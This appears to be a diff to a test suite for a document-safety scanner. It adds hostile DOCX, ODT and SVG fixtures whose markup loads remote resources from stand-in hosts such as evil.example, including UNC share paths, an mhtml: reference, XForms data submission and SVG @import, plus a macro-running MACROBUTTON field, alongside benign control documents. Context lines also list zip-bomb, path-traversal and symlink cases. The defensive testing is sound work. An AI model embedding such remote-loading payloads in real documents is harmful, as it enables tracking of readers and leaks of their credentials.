@@ -4,7 +4,9 @@ import os
 import zipfile
 
 from tests.applications.hostile import (
+    OFFICE,
     OLE,
+    WORD,
     archive_of,
     docx,
     field,
@@ -18,6 +20,82 @@ from tests.applications.hostile import (
     relationship,
     symlink,
 )
+
+V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
+LOADING_WORD = {
+    "the filling of a shape from the web": f'<v:fill {V} src="http://evil.example/a.png"/>',
+    "the filling of a shape from a share": f'<v:fill {V} src="\\\\evil.example\\a.png"/>',
+    "the filling of a shape from a file": f'<v:imagedata {V} o:href="file://evil.example/a.png"/>',
+    "a shape that leads to a share": f'<v:shape {V} href="//evil.example/a"/>',
+    "the address of something in a way nobody knows": f'<v:shape {V} o:canary="mhtml:http://evil.example/"/>',
+}
+LOADING_ODT = {
+    "a picture of a form from elsewhere": '<form:image-frame form:image-data="http://evil.example/a.png"/>',
+    "a form that fetches its data": '<xforms:instance xmlns:xforms="http://www.w3.org/2002/xforms" src="http://e.example/"/>',
+    "a form that sends its data": '<xforms:submission xmlns:xforms="http://www.w3.org/2002/xforms" action="http://e.example/"/>',
+    "a target of a form on a share": '<form:form form:canary="\\\\evil.example\\a"/>',
+}
+LOADING_SVG = {
+    "a drawing that imports": "<style>@import url(http://evil.example/a.css);</style>",
+    "a drawing filled from elsewhere": '<path style="fill:url(http://evil.example/#a)"/>',
+    "a drawing with a picture from elsewhere": '<image href="http://evil.example/a.png"/>',
+}
+
+
+def svg(inside):
+    return f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'
+
+
+def ordinary_docx():
+    """What Word writes into nearly every document: addresses that name standards, links, numbers, pictures, notes."""
+    schemas = "http://schemas.openxmlformats.org/drawingml/2006"
+    names = f'xmlns:w="{WORD}" xmlns:r="{OFFICE}" xmlns:a="{schemas}/main" xmlns:wp="{schemas}/wordprocessingDrawing"'
+    kinds = ("settings", "numbering", "footnotes", "theme", "header")
+    inside = {
+        "settings": '<w:compat><w:compatSetting w:name="compatibilityMode" w:uri="http://schemas.microsoft.com/office/word"'
+        ' w:val="15"/></w:compat><w:docVars><w:docVar w:name="a" w:val="https://example.org/"/></w:docVars>',
+        "numbering": '<w:lvl><w:lvlText w:val="//%1\\\\"/></w:lvl>',
+        "footnotes": '<w:footnote w:id="1"><w:p><w:r><w:t>https://example.org</w:t></w:r></w:p></w:footnote>',
+        "theme": '<a:ext uri="{05A4C25C-085E-4340-85A3-A5531E510DB2}"/><a:ext uri="http://schemas.microsoft.com/a"/>',
+        "header": "<w:p/>",
+    }
+    body = (
+        f'<w:p {names}><w:bookmarkStart w:id="1" w:name="_Toc1"/><w:bookmarkStart w:id="2" w:name="Here"/>'
+        '<w:hyperlink r:id="r10" w:tooltip="https://example.org/"><w:r><w:t>web</w:t></w:r></w:hyperlink>'
+        '<w:hyperlink w:anchor="Here"><w:r><w:t>there</w:t></w:r></w:hyperlink></w:p>'
+        f'<w:p {names} {V}><w:r><w:drawing><wp:inline><wp:docPr id="1" name="Picture 1" descr="https://example.org/a.png"/>'
+        f'<a:graphic><a:graphicData uri="{schemas}/picture"><a:blip r:embed="r11"/></a:graphicData></a:graphic>'
+        '</wp:inline></w:drawing></w:r><v:shape href="https://example.org/" alt="https://example.org/"/></w:p>'
+        + "".join(field([code]) for code in (' TOC \\o "1-3" \\h ', " PAGEREF _Toc1 \\h ", " REF Here \\h ", " PAGE "))
+        + field([' HYPERLINK "https://example.org/Here" \\l "Here" ', ""])
+        + field([" MACROBUTTON NoMacro [write here] "])
+    )
+    links = relationship("hyperlink", "https://example.org/", number=10)
+    links += relationship("image", "media/image1.svg", "Internal", 11)
+    links += "".join(relationship(kind, f"{kind}.xml", "Internal", n) for n, kind in enumerate(kinds, start=20))
+    parts = [(f"word/{kind}.xml", f"<w:{kind} {names}>{inside[kind]}</w:{kind}>") for kind in kinds]
+    drawn = (
+        '<metadata xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><a rdf:resource="http://example.org/"/></metadata>'
+        '<style>.a{fill:#c00}</style><path class="a" fill="url(#b)" d="M0 0h9"/>'
+    )
+    parts += [("word/media/image1.svg", svg(drawn)), ("docProps/app.xml", '<a b="http://example.org/"/>')]
+    parts += [("customXml/item1.xml", '<a schemaLocation="http://example.org/ a.xsd" src="http://example.org/"/>')]
+    return docx(body=body, links=links, parts=parts)
+
+
+def ordinary_odt():
+    """What LibreOffice writes into nearly every text."""
+    body = (
+        '<text:p><text:bookmark text:name="Here"/><text:a xlink:href="https://example.org/" office:name="">web</text:a>'
+        '<text:a xlink:href="#Here">there</text:a><text:bookmark-ref text:ref-name="Here">1</text:bookmark-ref>'
+        '<text:bibliography-mark text:url="https://example.org/">[1]</text:bibliography-mark></text:p>'
+        '<text:p><text:placeholder text:description="https://example.org/">[x]</text:placeholder></text:p>'
+        + frame('<draw:image xlink:href="Pictures/1.svg"/><svg:desc>https://example.org/</svg:desc>')
+    )
+    before = (
+        '<office:scripts/><office:font-face-decls g:transformation="http://docs.oasis-open.org/x.xsl" xmlns:g="urn:g"/>'
+    )
+    return odt(body=body, before=before, parts=[("Pictures/1.svg", svg('<path d="M0 0h9"/>'))])
 
 
 def picture_in_odt(target):
@@ -376,4 +454,31 @@ DOCUMENTS = [
     ("a bomb in an OpenDocument text", "a.odt", lambda: odt(parts=[("Pictures/1.png", bytes(50_000_000))]), "bomb"),
     ("an OpenDocument text that climbs out", "a.odt", lambda: odt(parts=[("../../x", "x")]), "unreadable"),
     ("an OpenDocument text with a link out of it", "a.odt", lambda: odt(change=symlink), "unreadable"),
+    # what fetches something by an attribute
+    *(
+        (what, "a.docx", lambda body=body: docx(body=f"<w:p>{body}</w:p>"), "word_linked")
+        for what, body in LOADING_WORD.items()
+    ),
+    *((what, "a.odt", lambda body=body: odt(before=body), "odt_linked") for what, body in LOADING_ODT.items()),
+    *(
+        (
+            f"{what}, in Word",
+            "a.docx",
+            lambda inside=inside: docx(parts=[("word/media/1.svg", svg(inside))]),
+            "word_linked",
+        )
+        for what, inside in LOADING_SVG.items()
+    ),
+    *(
+        (what, "a.odt", lambda inside=inside: odt(parts=[("Pictures/1.svg", svg(inside))]), "odt_linked")
+        for what, inside in LOADING_SVG.items()
+    ),
+    (
+        "a button that runs a macro of Word",
+        "a.docx",
+        lambda: docx(body=field([" MACROBUTTON ", "FileOpen click"])),
+        "word_fields",
+    ),
+    ("an ordinary Word document", "a.docx", ordinary_docx, "docx"),
+    ("an ordinary OpenDocument text", "a.odt", ordinary_odt, "odt"),
 ]
